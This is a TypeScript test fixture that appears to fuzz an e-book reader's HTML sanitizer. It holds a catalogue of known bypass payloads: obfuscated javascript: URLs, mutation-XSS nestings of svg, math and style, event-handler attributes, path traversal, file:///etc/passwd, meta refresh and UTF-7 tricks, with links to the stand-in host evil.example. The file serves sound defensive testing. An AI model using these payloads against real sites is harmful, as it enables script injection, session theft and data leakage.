import type { Random } from '../../server/testing/random.ts';

// Known bypasses of HTML sanitizers. Each script calls `hit`, and each external URL contains
// `evil.example`, so that tests can detect what was not removed.

const call = 'window.hit=1';
const evil = 'https://evil.example/x';

/** URLs that run code or leave the book, as written in markup. */
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `\u00a0javascript:${call}`,
  `\ufeffjavascript:${call}`,
  `&#1;javascript:${call}`,
  `java&#10;script:${call}`,
  `java&Tab;script:${call}`,
  `javascript&colon;${call}`,
  `java&#xfffe;script:${call}`,
  `data:text/html,&lt;script>${call}&lt;/script>`,
  `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#a`,
  `data:image/png,text/html,x`,
  evil,
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  '/&#9;/evil.example/x',
  '../../../../../settings',
  '%2e%2e/%2E%2e/%2e./../../../x',
  '/api/v1/users',
  '..\\..\\..\\..\\..\\x',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'a.xhtml',
  '#a',
];

const attributes = [
  'onload="hit"',
  'OnError=hit',
  `onbegin='hit'`,
  'ev:event="load"',
  'srcdoc="&lt;script>hit&lt;/script>"',
  'style="background:url(a.png)"',
  'is="x-a"',
  'xml:base="https://evil.example/"',
  'XML:BASE="https://evil.example/"',
  'target="_top"',
  'ping="https://evil.example/"',
  'formaction="javascript:hit"',
  'referrerpolicy="unsafe-url"',
  'attributionsrc="https://evil.example/"',
  'shadowrootmode="open"',
  'xmlns="http://www.w3.org/1999/xhtml"',
  'xmlns="http://www.w3.org/2000/svg"',
  'xmlns="http://www.w3.org/XML/1998/namespace"',
  'xmlns:x="http://www.w3.org/1999/xhtml"',
  'xmlns:y="http://www.w3.org/1999/xlink"',
  'xmlns:xml="urn:x"',
  'xmlns:xmlns="urn:x"',
  'xmlns:z=""',
  'z:a="1"',
  'y:href="b.xhtml"',
  'xlink:href="c.xhtml"',
  'id="a" id="b"',
  '"onload="hit',
  `a="'onload='hit"`,
  'a=`onload=hit`',
  'title="--&gt;&lt;/style&gt;&lt;/title&gt;&lt;img src=x onerror=hit&gt;"',
  'title="</noscript><img src=x onerror=hit>"',
  'constructor="1" __proto__="2" toString="3"',
];

const elements = [
  ...['p', 'a', 'img', 'svg', 'math', 'style', 'title', 'textarea', 'noscript', 'noembed', 'xmp'],
  ...['template', 'table', 'select', 'option', 'form', 'button', 'input', 'isindex', 'plaintext'],
  ...['mtext', 'mi', 'mglyph', 'malignmark', 'annotation-xml', 'maction', 'foreignObject', 'desc'],
  ...['use', 'image', 'animate', 'set', 'handler', 'listener', 'script', 'SCRIPT', 'x:script'],
  ...['svg:script', 'script/x', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base'],
  ...['link', 'meta', 'portal', 'fencedframe', 'video', 'audio', 'source', 'track', 'body', 'html'],
  ...['head', 'feImage', 'tref', 'textPath', 'xi:include', 'x-a', 'permission', 'br', 'image:x'],
];

const addressAttributes = [
  ...['href', 'HREF', 'src', 'xlink:href', 'y:href', 'x:href', 'poster', 'data', 'background'],
  ...['cite', 'longdesc', 'srcset', 'action', 'formaction', 'manifest', 'usemap', 'codebase'],
];

/** Complete attacks, beyond single tags and attributes. */
const tricks = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</ScRiPt >`,
  `<svg><style><![CDATA[</style><script>${call}</script>]]></style></svg>`,
  `<svg><style><!--</style><img src="x" onerror="${call}"/>--></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;"/>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}></style></mglyph></form>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></p></noscript>`,
  `<!--><script>${call}</script>--><!-- --!><script>${call}</script>`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?><?php ?><script>${call}</script>`,
  `<!DOCTYPE p [<!ENTITY x "<script>${call}</script>"><!ATTLIST p onclick CDATA "x">]>&x;<p/>`,
  `&lt;script&gt;${call}&lt;/script&gt;&amp;lt;script&amp;gt;`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#a"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${call}"/><text>a</text></a></svg>`,
  `<svg><a><set ATTRIBUTENAME=" xlink:HREF" to="javascript:${call}"/></a></svg>`,
  `<svg><animate attributeName="onload" to="${call}"/></svg>`,
  `<svg onload="${call}"><handler type="text/javascript" ev:event="load">${call}</handler></svg>`,
  `<svg><rect fill="url(${evil}#a)" filter="url( '//evil.example/f#a')" mask="\\75rl(${evil})"/></svg>`,
  `<svg><rect cursor="image-set('${evil}' 1x)" marker-end="url(../../../../../x#a)"/></svg>`,
  `<meta http-equiv="refresh" content="0;url=${evil}"/><meta HTTP-EQUIV="set-cookie"/>`,
  '<meta name="referrer" content="unsafe-url"/>',
  `<base href="${evil}"/><link rel="stylesheet preload" href="${evil}"/><link rel="manifest" href="a"/>`,
  `<template shadowrootmode="open"><script>${call}</script><img onerror="${call}" src="x"/></template>`,
  `<img srcset="${evil} 2x, a.png 1x"/><img srcset="../../../../../x 2x"/><img srcset="/x 1x"/>`,
  `<video poster="${evil}"><source src="${evil}"/><track src="//evil.example"/></video>`,
  `<iframe srcdoc="&lt;script>${call}&lt;/script>"></iframe><object data="javascript:${call}"/>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  `<p xmlns:a="urn:u" xmlns:b="urn:u" a:x="1" b:x="2"/>`,
  `<title><p title="</title><script>${call}</script>"/></title>`,
  `<textarea><img title="</textarea><img src=x onerror=${call}>"/></textarea>`,
  `<table><td><style></table><img src=x onerror=${call}></style></td></table>`,
  '\u0000<scr\u0000ipt>hit</scr\u0000ipt>',
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  '\ud800<\udfffscript>',
];

/** A random malicious snippet of markup, not always well-formed. */
const hostileMarkup = (random: Random, depth = 3): string => {
  const pick = <Item>(items: readonly Item[]): Item => random.pick(items);
  if (depth === 0 || random.below(4) === 0) return pick(tricks);
  const name = pick(elements);
  const given = Array.from({ length: random.below(4) }, () =>
    random.below(2) === 0 ? pick(attributes) : `${pick(addressAttributes)}="${pick(addresses)}"`,
  );
  const inside = Array.from({ length: 1 + random.below(3) }, () =>
    hostileMarkup(random, depth - 1),
  ).join('');
  const end = random.below(5) === 0 ? '' : `</${name}>`;
  return `<${name} ${given.join(' ')}>${inside}${end}`;
};

/** A document of such markup, encoded like a book's file. */
export const hostileDocument = (random: Random): Buffer => {
  const inside = Array.from({ length: 1 + random.below(4) }, () => hostileMarkup(random)).join('');
  const text = random.pick([
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>a</title></head><body>${inside}</body></html>`,
    `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`,
    `<html>${inside}</html>`,
    inside,
  ]);
  switch (random.below(8)) {
    case 0:
      return Buffer.from(`\ufeff${text}`, 'utf16le');
    case 1:
      return Buffer.from(`\ufeff<?xml version="1.0" encoding="utf-7"?>${text}`);
    case 2:
      return Buffer.from(`<?xml version="1.0" encoding="utf-16"?>${text}`);
    case 3:
      return Buffer.from(`\ufeff${text}`, 'utf16le').swap16();
    case 4:
      return Buffer.from(`<?xml version="1.0" encoding="shift_jis"?>${text}`);
    default:
      return Buffer.from(text);
  }
};

/** Each attack alone in a document, to cover all of them deterministically. */
export const everyTrick = (): Buffer[] =>
  [
    ...tricks,
    ...addressAttributes.flatMap((name) =>
      addresses.flatMap((address) =>
        ['a', 'img', 'use', 'link rel="stylesheet"', 'mtext', 'x-a'].map(
          (element) => `<${element} ${name}="${address}">a</${element.split(' ')[0] ?? ''}>`,
        ),
      ),
    ),
    ...attributes.flatMap((attribute) =>
      ['p', 'svg', 'a', 'img'].map((name) => `<${name} ${attribute}/>`),
    ),
  ].map((inside) =>
    Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml"><body>${inside}</body></html>`),
  );
